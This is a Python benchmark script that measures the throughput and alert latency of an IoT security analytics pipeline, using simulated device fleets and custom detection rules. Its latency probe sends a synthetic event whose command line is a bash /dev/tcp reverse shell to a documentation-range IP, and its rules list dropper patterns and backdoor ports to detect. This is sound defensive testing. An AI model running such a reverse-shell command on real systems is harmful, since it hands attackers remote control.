"""Analytics pipeline: sustained throughput, and the time from the hub's ack to the alert row.

Run: python bench/analytics_pipeline.py [--devices N] [--hours H] [--log sqlite|memory]
         [--repeat K] [--probes P] [--load R] [--skip-throughput | --skip-latency] [--profile]

**Throughput.** The processor ``iotsec up`` runs, composed the same way
(``iotsec.cli.analytics_service``): the rule engine with the built-in catalogue plus 100 custom
YAML rules (per security group: allow lists of executables, users and networks, thresholds,
deny lists) and a STIX feed; ASC custom alerts, 100 rules over 8 security groups (time-window
counts, allow and deny lists) through ``CustomAlertDetector``; device silent and onboarded;
novelty, rate and IsolationForest baselines; recommendations; the alert store (SQLite) and the
workspace sink (a DuckDB ``WorkspaceStore``) in a temporary dir. Its input is the simulator's:
``--devices`` devices living ``--hours`` ordinary hours (one in twenty with an attack scenario
as well), each device's events packed into security messages as its agent sends them (one send
per five simulated minutes), encoded as the hub stores them, and appended to a durable log
(``SqliteLog`` by default) before the clock starts. ``AnalyticsPipeline`` then consumes the log
(enrich, detect, write alerts, recommendations and inventory, commit) until it is at the end;
``--repeat`` passes, each with a fresh processor and consumer over the same log (a shared
machine's figures vary from pass to pass: the best and the median are printed). Prints
entries/s, events/s and observations/s (one observation per payload row: what the detectors
evaluate), CPU time per observation and where it goes, and the garbage collector's share.

**Latency.** ``iotsec up`` in a child process (``bench/hubload.HubProcess``: hub, workspace and
analytics; the same 100 YAML rules and 100 custom alerts loaded), ``--loaders`` devices sending
``--load`` messages/s of simulated benign events, and a probe device that sends one message
holding a reverse shell (``bash -i >& /dev/tcp/...``) with a fresh event id. From the PUBACK,
the bench asks the query API every 20 ms for a ``SecurityAlert`` row whose
``ExtendedProperties.EvidenceEventIds`` holds that id. Prints p50, p95 and max over ``--probes``.

Targets (issue 6): >= 20,000 events/s (stretch 50,000) with the catalogue and 100 custom rules;
ack -> alert row p95 <= 2 s.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import cProfile
import gc
import io
import pstats
import random
import statistics
import sys
import tempfile
import time
import uuid
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import msgspec
import orjson

sys.path.insert(0, str(Path(__file__).resolve().parent))

from hubload import HOST, DeviceCredential, HubProcess  # bench/ is not a package
from iotsec.analytics.alertstore import AlertStore
from iotsec.analytics.baseline import NoveltyDetector, OutlierDetector, RateDetector
from iotsec.analytics.baseline.state import Stateful, StateStore
from iotsec.analytics.custom import CustomAlertDetector
from iotsec.analytics.customrules import CustomAlertSet
from iotsec.analytics.detection import Detector
from iotsec.analytics.enrich import Enricher, StaticDirectory
from iotsec.analytics.fleet import DeviceOnboardedDetector, DeviceSilentDetector
from iotsec.analytics.intel import FeedConfig, FeedManager
from iotsec.analytics.observation import DeviceContext
from iotsec.analytics.pipeline import AnalyticsPipeline
from iotsec.analytics.processor import AnalyticsProcessor
from iotsec.analytics.recommendations import HubDevice, HubState, Recommendations
from iotsec.analytics.rules import RuleEngine, load_catalogue, load_rules_text
from iotsec.cli.adapters import WorkspaceAnalyticsSink, utc_now
from iotsec.cli.query_cmd import QUERY_PATH
from iotsec.cli.service_client import ServiceClient
from iotsec.hub.registry import SqliteRegistry
from iotsec.schema import (
    ErrorPolicy,
    Event,
    ProcessCreate,
    ProcessCreateEvent,
    decode_message,
    encode_message,
)
from iotsec.sdk import AsyncDeviceClient
from iotsec.sdk.core import build_security_messages
from iotsec.simulate import (
    PROFILES,
    SimDevice,
    benign_events,
    build_fleet,
    run_scenario,
    scenario_indicators,
    schedule,
)
from iotsec.stream import DurableLog, MemoryLog, Record, SqliteLog
from iotsec.workspace.store import WorkspaceStore

TARGET_RATE = 20_000
STRETCH_RATE = 50_000
TARGET_P95 = 2.0
SECURITY_MODULE = "azureiotsecurity"
SEND_EVERY = timedelta(minutes=5)
ATTACKS = ("bruteforce", "reverse-shell", "miner", "ti-connection", "download-exec", "firewall-off")
GROUP_SPLIT = 2  # each simulated kind's group is split in two: 8 security groups
SEED = 6


# --- the fleet and what it sends --------------------------------------------------------------


def group_of(device: SimDevice) -> str:
    """The security group a bench device is in (8 groups: the kind's group, split in two)."""
    return f"{device.group}-{device.index % GROUP_SPLIT}"


#: Every security group of the bench fleet, whether or not a small fleet has devices in it.
GROUPS = sorted({f"{p.group}-{i}" for p in PROFILES.values() for i in range(GROUP_SPLIT)})


@dataclass
class Corpus:
    """Log records in arrival order, and what they hold."""

    records: list[Record]
    events: int
    rows: int
    devices: list[SimDevice]
    #: Per security group: executables, login users, local accounts and /16 networks its
    #: benign devices use (what an operator's allow lists would hold).
    executables: dict[str, set[str]] = field(default_factory=dict)
    users: dict[str, set[str]] = field(default_factory=dict)
    accounts: dict[str, set[str]] = field(default_factory=dict)
    networks: dict[str, set[str]] = field(default_factory=dict)


def _sends(device: SimDevice, events: Sequence[Event]) -> list[tuple[datetime, list[Event]]]:
    """What the agent sends, grouped into one send per ``SEND_EVERY`` of simulated time."""
    timed = schedule(device, events)
    batches: dict[int, list[Event]] = {}
    epoch = datetime(1970, 1, 1, tzinfo=UTC)
    for item in timed:
        batches.setdefault((item.at - epoch) // SEND_EVERY, []).append(item.event)
    return [(epoch + (k + 1) * SEND_EVERY, evs) for k, evs in sorted(batches.items())]


def _hub_record(device: SimDevice, body: bytes, at: float) -> Record:
    """The record the hub appends for a security message (re-encoded, with its headers)."""
    decoded = decode_message(body, policy=ErrorPolicy.KEEP_VALID)
    headers = {
        "device_id": device.device_id,
        "protocol": "mqtt",
        "source_ip": device.address,
        "module_id": SECURITY_MODULE,
        "enqueued_time": repr(at),
        "content_type": "application/json",
        "content_encoding": "utf-8",
    }
    return Record(device.device_id, "security", encode_message(decoded.message), headers, at)


def _learn(corpus: Corpus, device: SimDevice, events: Iterable[Event]) -> None:
    group = group_of(device)
    executables = corpus.executables.setdefault(group, set())
    users = corpus.users.setdefault(group, set())
    accounts = corpus.accounts.setdefault(group, set())
    networks = corpus.networks.setdefault(group, set())
    for event in events:
        for row in event.payload:
            data = msgspec.structs.asdict(row)
            if event.name == "ProcessCreate" and data.get("executable"):
                executables.add(data["executable"])
            elif event.name == "Login" and data.get("user_name"):
                users.add(data["user_name"])
            elif event.name == "LocalUsers" and data.get("user_name"):
                accounts.add(data["user_name"])
            elif event.name == "ConnectionCreate" and data.get("remote_address"):
                octets = str(data["remote_address"]).split(".")
                if len(octets) == 4:
                    networks.add(f"{octets[0]}.{octets[1]}.0.0/16")


def build_corpus(devices: int, hours: float, seed: int = SEED) -> Corpus:
    """``devices`` simulated devices' last ``hours`` as log records, in arrival order."""
    fleet = build_fleet(devices, seed=seed, prefix="bench")
    end = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
    start = end - timedelta(hours=hours)
    rng = random.Random(seed)
    corpus = Corpus([], 0, 0, list(fleet))
    timed: list[tuple[datetime, int, Record]] = []
    for device in fleet:
        events = benign_events(device, start, end, seed=seed)
        _learn(corpus, device, events)
        if device.index % 20 == 7:  # one device in twenty is attacked, too
            scenario = ATTACKS[(device.index // 20) % len(ATTACKS)]
            at = start + timedelta(minutes=rng.uniform(10, max(11.0, hours * 60 - 130)))
            events = [*events, *run_scenario(scenario, device, at, seed=seed).activity]
        for sent_at, batch in _sends(device, events):
            for message in build_security_messages(batch, agent_id=device.agent_id):
                when = sent_at.timestamp() + rng.uniform(0, 30)
                timed.append((sent_at, device.index, _hub_record(device, message.body, when)))
            corpus.events += len(batch)
            corpus.rows += sum(max(1, len(e.payload)) for e in batch)
    timed.sort(key=lambda item: (item[2].timestamp, item[1]))
    corpus.records = [record for _, _, record in timed]
    return corpus


# --- 100 custom YAML rules and 100 ASC custom alerts --------------------------------------------


def _yaml_list(values: Iterable[str]) -> str:
    return "[" + ", ".join(orjson.dumps(v).decode() for v in sorted(values)) + "]"


def custom_rules_text(corpus: Corpus, count: int = 100) -> str:
    """``count`` operator rules over the security groups (allow lists, thresholds and deny
    lists, as an operator writes them), built from what each group's devices do."""
    groups = GROUPS
    outbound = "{field: Direction, equals: Out}, {not: {field: RemoteAddress, cidr: NETS}}"
    dropper = "{field: CommandLine, contains: [chmod +x /tmp, base64 -d, /dev/tcp/]}"
    templates: list[tuple[str, str, str]] = [
        ("ProcessCreate", "{not: {field: Executable, in: EXE}}", ""),
        ("ConnectionCreate", outbound, ""),
        ("Login", "{not: {field: UserName, in: USERS}}", ""),
        ("ConnectionCreate", "", "threshold: {max: 500, window: 5m}"),
        ("Login", "{field: Result, equals: Fail}", "threshold: {count: 5, window: 5m}"),
        ("ProcessCreate", dropper, ""),
        ("ListeningPorts", "{field: LocalPort, in: [23, 2323, 4444, 5555, 31337]}", ""),
        ("ConnectionCreate", "{field: RemotePort, in: [23, 2323, 4444, 6667, 1337]}", ""),
        ("ProcessCreate", "{field: Executable, startswith: [/tmp/, /var/tmp/, /dev/shm/]}", ""),
        ("Login", "{field: Operation, equals: su}", ""),
        ("ProcessCreate", "{field: UserName, equals: root}", "threshold: {max: 5000, window: 1h}"),
        ("ConnectionCreate", "{field: Protocol, equals: UDP}", "threshold: {max: 2000, window: 1h}"),  # noqa: E501
        ("LocalUsers", "{not: {field: UserName, in: ACCOUNTS}}", ""),
    ]  # fmt: skip
    parts = ["rules:\n"]
    for index in range(count):
        group = groups[index % len(groups)]
        event, condition, extra = templates[(index // len(groups)) % len(templates)]
        condition = (
            condition.replace("EXE", _yaml_list(corpus.executables.get(group) or {"/bin/true"}))
            .replace("ACCOUNTS", _yaml_list(corpus.accounts.get(group, set()) | {"root"}))
            .replace("USERS", _yaml_list(corpus.users.get(group, set()) | {"root"}))
            .replace("NETS", _yaml_list(corpus.networks.get(group) or {"10.0.0.0/8"}))
        )
        # The group test at the top level, as docs/rules.md writes a custom rule: the engine
        # then evaluates it once per group, not per observation.
        rest = f", all: [{condition}]" if condition else ""
        parts.append(
            f"  - id: Custom_{index:03d}\n    name: custom rule {index} ({group})\n"
            "    severity: Low\n    tactic: Execution\n    technique: T1059\n"
            f"    description: '{{DeviceId}} broke custom rule {index} of {group}'\n"
            f"    match: {{event: {event}, field: Group, equals: {group}{rest}}}\n"
            + (f"    {extra}\n" if extra else "")
        )
    return "".join(parts)


def custom_alert_documents(corpus: Corpus, count: int = 100) -> dict[str, dict[str, Any]]:
    """ASC custom alerts, ``count`` rules over the security groups (as ``iotsec alerts
    custom`` stores them): time-window ranges, allow lists from what the group does, deny
    lists of attacker ranges."""
    groups = GROUPS
    executables = {g: corpus.executables.get(g) or {"/bin/true"} for g in groups}
    users = {g: corpus.users.get(g, set()) | {"root"} for g in groups}
    networks = {g: corpus.networks.get(g) or {"10.0.0.0/8"} for g in groups}

    def window(rule_type: str, high: int, size: str) -> dict[str, Any]:
        return {
            "ruleType": rule_type,
            "isEnabled": True,
            "minThreshold": 0,
            "maxThreshold": high,
            "timeWindowSize": size,
        }

    def listed(rule_type: str, values: Iterable[str], key: str) -> dict[str, Any]:
        return {"ruleType": rule_type, "isEnabled": True, key: sorted(values)}

    kinds: list[tuple[str, Any]] = [
        ("timeWindowRules", lambda g: window("ActiveConnectionsNotInAllowedRange", 2000, "PT1H")),
        ("timeWindowRules", lambda g: window("FailedLocalLoginsNotInAllowedRange", 10, "PT15M")),
        ("timeWindowRules", lambda g: window("MqttD2CMessagesNotInAllowedRange", 5000, "PT1H")),
        ("timeWindowRules", lambda g: window("TwinUpdatesNotInAllowedRange", 100, "PT1H")),
        (
            "timeWindowRules",
            lambda g: window("UnauthorizedOperationsNotInAllowedRange", 20, "PT15M"),
        ),
        ("timeWindowRules", lambda g: window("HttpD2CMessagesNotInAllowedRange", 1000, "PT1H")),
        ("timeWindowRules", lambda g: window("MqttC2DMessagesNotInAllowedRange", 500, "PT1H")),
        ("timeWindowRules", lambda g: window("HttpC2DMessagesNotInAllowedRange", 500, "PT1H")),
        (
            "timeWindowRules",
            lambda g: window("HttpC2DRejectedMessagesNotInAllowedRange", 50, "PT1H"),
        ),
        (
            "allowlistRules",
            lambda g: listed("ProcessNotAllowed", executables[g], "allowlistValues"),
        ),
        (
            "allowlistRules",
            lambda g: listed("LocalUserNotAllowed", users[g], "allowlistValues"),
        ),
        (
            "allowlistRules",
            lambda g: listed("ConnectionToIpNotAllowed", networks[g], "allowlistValues"),
        ),
        (
            "denylistRules",
            lambda g: listed("LocalUserNotAllowed", {"guest", "test", "oracle"}, "denylistValues"),
        ),
    ]
    documents: dict[str, dict[str, Any]] = {g: {} for g in groups}
    for index in range(count):
        group = groups[index % len(groups)]
        family, make = kinds[(index // len(groups)) % len(kinds)]
        documents[group].setdefault(family, []).append(make(group))
    # Round-trip through the parser: what the hub would store (and a check that all is valid).
    return {g: CustomAlertSet.from_json(d).to_json() for g, d in documents.items()}


# --- throughput ---------------------------------------------------------------------------------


class GcClock:
    """Wall time the garbage collector takes, by generation (``gc.callbacks``)."""

    def __init__(self) -> None:
        self.seconds = [0.0, 0.0, 0.0]
        self.collections = [0, 0, 0]
        self._started = 0.0

    def __call__(self, phase: str, info: dict[str, int]) -> None:
        if phase == "start":
            self._started = time.perf_counter()
        else:
            self.seconds[info["generation"]] += time.perf_counter() - self._started
            self.collections[info["generation"]] += 1


class TimedSink(WorkspaceAnalyticsSink):
    """The workspace sink, with the time its writes take kept."""

    seconds = 0.0
    writes = 0

    def write_alerts(self, alerts: Sequence[Any]) -> int:
        started = time.perf_counter()
        try:
            return super().write_alerts(alerts)
        finally:
            self.seconds += time.perf_counter() - started
            self.writes += 1

    def write_recommendations(self, changes: Sequence[Any]) -> int:
        started = time.perf_counter()
        try:
            return super().write_recommendations(changes)
        finally:
            self.seconds += time.perf_counter() - started
            self.writes += 1

    def write_devices(self, records: Sequence[Any]) -> int:
        started = time.perf_counter()
        try:
            return super().write_devices(records)
        finally:
            self.seconds += time.perf_counter() - started
            self.writes += 1


class TimedEnricher(Enricher):
    """The enricher, with the CPU time it takes kept (and profiled when ``profile`` is set)."""

    cpu = 0.0
    profile: cProfile.Profile | None = None

    def observations(self, entry: Any) -> list[Any]:
        started = time.thread_time()
        if self.profile is not None:
            self.profile.enable()
        try:
            return super().observations(entry)
        finally:
            if self.profile is not None:
                self.profile.disable()
            self.cpu += time.thread_time() - started


class Timed:
    """The processor, with the CPU time of ``process`` and ``tick`` kept (and, when asked,
    profiled, with the enrichment, in the worker thread that runs them)."""

    def __init__(self, inner: AnalyticsProcessor, *, profile: bool) -> None:
        self.inner = inner
        self.profile = cProfile.Profile() if profile else None
        self.process_cpu = self.tick_cpu = 0.0
        self.ticks = 0

    def process(self, observations: Sequence[Any], now: datetime) -> None:
        started = time.thread_time()
        if self.profile is not None:
            self.profile.enable()
        try:
            self.inner.process(observations, now)
        finally:
            if self.profile is not None:
                self.profile.disable()
            self.process_cpu += time.thread_time() - started

    def tick(self, now: datetime) -> None:
        started = time.thread_time()
        if self.profile is not None:
            self.profile.enable()
        try:
            self.inner.tick(now)
        finally:
            if self.profile is not None:
                self.profile.disable()
            self.tick_cpu += time.thread_time() - started
            self.ticks += 1


def _top(profile: cProfile.Profile, title: str, lines: int = 30) -> None:
    out = io.StringIO()
    pstats.Stats(profile, stream=out).sort_stats("tottime").print_stats(lines)
    print(f"--- {title} ---")
    print(out.getvalue().split("\n", 4)[-1])


@dataclass
class Built:
    pipeline: AnalyticsPipeline
    processor: AnalyticsProcessor
    timed: Timed
    sink: TimedSink
    alerts: AlertStore
    store: WorkspaceStore
    feeds: FeedManager
    rules: int


def build_pipeline(
    log: DurableLog, corpus: Corpus, tmp: Path, *, profile: bool = False, consumer: str = "bench"
) -> Built:
    """The processor as ``AnalyticsService.start`` composes it, over ``log``."""
    feed_file = tmp / "demo-feed.json"
    feed_file.write_bytes(orjson.dumps(scenario_indicators()))
    feeds = FeedManager([FeedConfig(name="demo-stix", kind="stix-file", path=feed_file)])
    feeds.reload()
    ruleset = load_catalogue().merge(load_rules_text(custom_rules_text(corpus), source="c.yaml"))
    sets = {g: CustomAlertSet.from_json(d) for g, d in custom_alert_documents(corpus).items()}
    custom = CustomAlertDetector(sets)
    novelty, rates, outlier = NoveltyDetector(None), RateDetector(None), OutlierDetector(None)
    silent, onboarded = DeviceSilentDetector(), DeviceOnboardedDetector()
    detectors: list[Detector] = [
        RuleEngine(ruleset, feeds),
        custom,
        silent,
        onboarded,
        novelty,
        rates,
        outlier,
    ]
    hub = "/subscriptions/bench/resourceGroups/bench/providers/Microsoft.Devices/IotHubs/bench"
    contexts = {
        d.device_id: DeviceContext(d.device_id, group=group_of(d), hub=hub) for d in corpus.devices
    }
    recommendations = Recommendations(
        hub=HubState(hub=hub, devices=tuple(HubDevice(c) for c in contexts.values()))
    )
    alerts = AlertStore(tmp / "alerts.db", clock=utc_now)
    store = WorkspaceStore(tmp / "workspace.duckdb")
    sink = TimedSink(store)
    stateful: dict[str, Stateful] = {
        "novelty": novelty,
        "rates": rates,
        "outlier": outlier,
        "silent": silent,
        "onboarded": onboarded,
        "recommendations": recommendations,
    }
    processor = AnalyticsProcessor(
        detectors=detectors,
        alerts=alerts,
        alert_sinks=[sink],
        recommendations=recommendations,
        recommendation_sinks=[sink],
        device_sinks=[sink],
        state=StateStore(tmp / "analytics-state.db"),
        stateful=stateful,
    )
    directory = StaticDirectory(
        {d.device_id: (group_of(d), dict(d.tags)) for d in corpus.devices}, hub=hub
    )
    timed = Timed(processor, profile=profile)
    enricher = TimedEnricher(directory, hub=hub)
    enricher.profile = timed.profile
    pipeline = AnalyticsPipeline(log, enricher, timed, consumer=consumer)
    return Built(pipeline, processor, timed, sink, alerts, store, feeds, len(ruleset.rules))


async def _open_log(kind: str, tmp: Path) -> DurableLog:
    if kind == "memory":
        return MemoryLog()
    return await SqliteLog.open(tmp / "log.db")


async def throughput(args: argparse.Namespace) -> None:
    started = time.perf_counter()
    corpus = build_corpus(args.devices, args.hours)
    made = time.perf_counter() - started
    print(
        f"corpus: {len(corpus.devices)} devices x {args.hours:g} simulated hours -> "
        f"{len(corpus.records):,} messages, {corpus.events:,} events, {corpus.rows:,} rows "
        f"(built in {made:.1f} s)"
    )
    with tempfile.TemporaryDirectory(prefix="iotsec-bench-analytics-") as name:
        tmp = Path(name)
        log = await _open_log(args.log, tmp)
        for i in range(0, len(corpus.records), 1000):
            await log.append(corpus.records[i : i + 1000])
        rates = []
        for number in range(1, args.repeat + 1):
            # Each pass: a fresh processor (its own stores) and consumer over the same log.
            rates.append(await _pass(args, corpus, log, tmp / f"pass-{number}", number))
        await log.close()
    rates.sort()
    print(
        f"observations/s over {len(rates)} passes: best {rates[-1]:,.0f}, median "
        f"{statistics.median(rates):,.0f}, worst {rates[0]:,.0f}  (target >= {TARGET_RATE:,}/s, "
        f"stretch {STRETCH_RATE:,}/s)"
    )


async def _pass(
    args: argparse.Namespace, corpus: Corpus, log: DurableLog, tmp: Path, number: int
) -> float:
    """One pass of the whole log through a fresh processor; prints its figures."""
    tmp.mkdir()
    built = build_pipeline(log, corpus, tmp, profile=args.profile, consumer=f"pass-{number}")
    if number == 1:
        catalogue = len(load_catalogue().rules)
        print(
            f"loaded: {built.rules} rules ({catalogue} of the catalogue, 100 custom), 100 ASC "
            f"custom alerts over {len(GROUPS)} security groups, 1 STIX feed; fleet, novelty, "
            "rate and outlier baselines, recommendations; alert store + workspace sink; "
            f"{args.log} log"
        )
    pipeline = built.pipeline
    profiler = cProfile.Profile() if args.profile else None
    gc.collect()
    gc.freeze()  # as `iotsec up` does once started (iotsec.cli.hub_cmd)
    collector = GcClock()
    gc.callbacks.append(collector)
    wall, cpu = time.perf_counter(), time.process_time()
    if profiler is not None:
        profiler.enable()
    while await pipeline.poll():
        pass
    if profiler is not None:
        profiler.disable()
    wall, cpu = time.perf_counter() - wall, time.process_time() - cpu
    gc.callbacks.remove(collector)
    processor = built.processor
    rows = pipeline.observations
    rate = rows / wall
    print(
        f"pass {number}: {pipeline.entries:,} entries, {corpus.events:,} events, {rows:,} "
        f"observations in {wall:.2f} s wall, {cpu:.2f} s CPU: {rate:,.0f} observations/s, "
        f"{corpus.events / wall:,.0f} events/s, {pipeline.entries / wall:,.0f} entries/s; "
        f"{cpu / rows * 1e6:.1f} us CPU per observation"
    )
    timed = built.timed
    enricher = pipeline._enricher
    assert isinstance(enricher, TimedEnricher)
    rest = cpu - timed.process_cpu - timed.tick_cpu - enricher.cpu
    print(
        f"  CPU per observation: {enricher.cpu / rows * 1e6:.1f} us enriching, "
        f"{timed.process_cpu / rows * 1e6:.1f} us detecting and writing (process), "
        f"{timed.tick_cpu / rows * 1e6:.1f} us in {timed.ticks} ticks (windows, "
        f"recommendations, risk, inventory), {rest / rows * 1e6:.1f} us the rest (reading the "
        "log, committing, other threads)"
    )
    print(
        f"  found: {processor.detections:,} detections -> {processor.alerts_written:,} alert "
        f"writes; {processor.recommendation_changes:,} recommendation changes; "
        f"{processor.repeats:,} repeats dropped; workspace writes: {built.sink.writes:,} "
        f"taking {built.sink.seconds:.2f} s ({built.sink.seconds / wall:.0%} of the wall time)"
    )
    generations = zip(collector.collections, collector.seconds, strict=True)
    print(
        "  garbage collection: "
        + ", ".join(f"gen{g} {n:,} x {t:.2f} s" for g, (n, t) in enumerate(generations))
        + f" ({sum(collector.seconds) / wall:.0%} of the wall time)"
    )
    if profiler is not None and timed.profile is not None:
        _top(profiler, "the event loop's thread: reading the log, committing")
        _top(timed.profile, "the worker thread: enriching, detectors, alerts, sinks")
    processor.close()
    built.alerts.close()
    built.store.close()
    built.feeds.stop()
    gc.unfreeze()  # this pass's leftovers may go now
    return rate


# --- latency ------------------------------------------------------------------------------------


class AnalyticsHub(HubProcess):
    """``iotsec up`` with analytics configured: 100 YAML rules, 100 custom alerts, a feed."""

    def __init__(self, devices: int, corpus: Corpus) -> None:
        super().__init__(devices)
        self.corpus = corpus

    def _register(self) -> None:
        super()._register()
        data = self.data_dir
        (data / "custom-rules.yaml").write_text(custom_rules_text(self.corpus), encoding="utf-8")
        (data / "demo-feed.json").write_bytes(orjson.dumps(scenario_indicators()))
        (data / "analytics.yaml").write_text(
            "rules: [custom-rules.yaml]\n"
            "feeds: [{name: demo-stix, kind: stix-file, path: demo-feed.json}]\n",
            encoding="utf-8",
        )
        registry = SqliteRegistry(data / "registry.db")
        try:
            for group, document in custom_alert_documents(self.corpus).items():
                registry.set_custom_alerts(group, document)
            groups = GROUPS
            for i, credential in enumerate(self.credentials):
                registry.patch_tags(
                    credential.device_id, {"SecurityGroup": groups[i % len(groups)]}
                )
        finally:
            registry.close()


def _connection_string(credential: DeviceCredential) -> str:
    return f"HostName={HOST};DeviceId={credential.device_id};SharedAccessKey={credential.key}"


async def _client(hub: HubProcess, credential: DeviceCredential) -> AsyncDeviceClient:
    client = AsyncDeviceClient.from_connection_string(
        _connection_string(credential),
        transport="mqtt",
        ca_file=str(hub.ca_file),
        port=hub.mqtt_port,
    )
    await client.connect()
    return client


def _fresh(event: Event) -> Event:
    """``event`` with a new id (a new event to the workspace and to analytics)."""
    return msgspec.structs.replace(event, id=str(uuid.uuid4()))


async def _load(
    client: AsyncDeviceClient, events: list[Event], rate: float, per: int, stop: asyncio.Event
) -> int:
    sent = 0
    started = time.monotonic()
    position = 0
    while not stop.is_set():
        delay = started + sent / rate - time.monotonic()
        if delay > 0:
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(stop.wait(), delay)
            continue
        batch = [_fresh(events[(position + i) % len(events)]) for i in range(per)]
        position += per
        await client.send_security_message(batch)
        sent += 1
    return sent


def _reverse_shell() -> ProcessCreateEvent:
    row = ProcessCreate(
        executable="/bin/bash",
        process_id=random.randint(2000, 60000),
        parent_process_id=812,
        user_id="33",
        user_name="www-data",
        command_line="bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
    )
    return ProcessCreateEvent.create([row], at=datetime.now(UTC))


def _alerted(service: ServiceClient, evidence: str) -> bool:
    kql = (
        "SecurityAlert | where tostring(ExtendedProperties.EvidenceEventIds) contains "
        f"'{evidence}' | count"
    )
    answer = service.request("POST", QUERY_PATH, body={"query": kql, "language": "kql"})
    rows = answer.get("rows") or []
    return bool(rows) and int(rows[0][0]) > 0


async def _probe(client: AsyncDeviceClient, service: ServiceClient, timeout: float) -> float:
    event = _reverse_shell()
    await client.send_security_message([event])
    acked = time.monotonic()
    while not await asyncio.to_thread(_alerted, service, f"{event.id}:0"):
        if time.monotonic() - acked > timeout:
            return float("inf")
        await asyncio.sleep(0.02)
    return time.monotonic() - acked


async def latency(args: argparse.Namespace) -> None:
    corpus = build_corpus(max(8, args.loaders), 24)
    loaders = corpus.devices[: args.loaders] if args.load > 0 else []
    # One probe device per 50 probes keeps each reverse-shell alert's evidence under its cap.
    probe_devices = max(1, -(-args.probes // 50))
    with AnalyticsHub(probe_devices + len(loaders), corpus) as hub:
        probes = [await _client(hub, c) for c in hub.credentials[:probe_devices]]
        clients = [await _client(hub, c) for c in hub.credentials[probe_devices:]]
        events = {d.device_id: [e for e in benign_events(d, *_day(), seed=SEED)] for d in loaders}
        service = ServiceClient(hub.data_dir)
        stop = asyncio.Event()
        load = [
            asyncio.create_task(
                _load(c, events[d.device_id], args.load / len(clients), args.events, stop)
            )
            for c, d in zip(clients, loaders, strict=True)
        ]
        await asyncio.sleep(3.0)  # let the load and analytics settle (first snapshots, ...)
        samples: list[float] = []
        for i in range(args.probes):
            samples.append(await _probe(probes[i % len(probes)], service, args.timeout))
            if samples[-3:] == [float("inf")] * 3:
                break  # analytics is not keeping up with the load: no use waiting for more
            await asyncio.sleep(args.gap)
        stop.set()
        sent = sum(await asyncio.gather(*load))
        for c in [*probes, *clients]:
            await c.close()
        service.close()
        problems = hub.log_problems()
    samples.sort()
    lost = sum(1 for x in samples if x == float("inf"))
    if lost:
        print(
            f"{lost} of {len(samples)} probes saw no alert within {args.timeout:g} s: analytics "
            "fell behind the load"
        )
    p95 = samples[min(len(samples) - 1, round(0.95 * (len(samples) - 1)))]
    print(
        f"background load: {args.load:g} messages/s x {args.events} simulated benign events from "
        f"{len(loaders)} devices ({sent:,} messages sent)"
    )
    print(
        f"ack -> SecurityAlert row over {len(samples)} probes: p50 "
        f"{statistics.median(samples):.3f} s, p95 {p95:.3f} s, max {samples[-1]:.3f} s  "
        f"(target p95 <= {TARGET_P95:g} s)"
    )
    if problems:
        print("hub log problems:", *problems[:10], sep="\n  ")


def _day() -> tuple[datetime, datetime]:
    end = datetime.now(UTC).replace(microsecond=0)
    return end - timedelta(hours=24), end


def main() -> None:
    """Run the benchmarks and print the figures."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n")[0])
    parser.add_argument("--devices", type=int, default=300, help="throughput: fleet size")
    parser.add_argument("--hours", type=float, default=24.0, help="throughput: simulated hours")
    parser.add_argument("--log", choices=("sqlite", "memory"), default="sqlite")
    parser.add_argument("--repeat", type=int, default=3, help="throughput: passes (best, median)")
    parser.add_argument("--profile", action="store_true", help="throughput: cProfile top 30")
    parser.add_argument("--probes", type=int, default=50, help="latency: probes")
    parser.add_argument("--gap", type=float, default=0.2, help="latency: seconds between probes")
    parser.add_argument("--load", type=float, default=50.0, help="latency: background messages/s")
    parser.add_argument("--events", type=int, default=20, help="latency: events per message")
    parser.add_argument("--loaders", type=int, default=8, help="latency: background devices")
    parser.add_argument("--timeout", type=float, default=30.0, help="latency: give up a probe")
    parser.add_argument("--skip-throughput", action="store_true")
    parser.add_argument("--skip-latency", action="store_true")
    args = parser.parse_args()
    if not args.skip_throughput:
        asyncio.run(throughput(args))
    if not args.skip_latency:
        asyncio.run(latency(args))


if __name__ == "__main__":
    main()
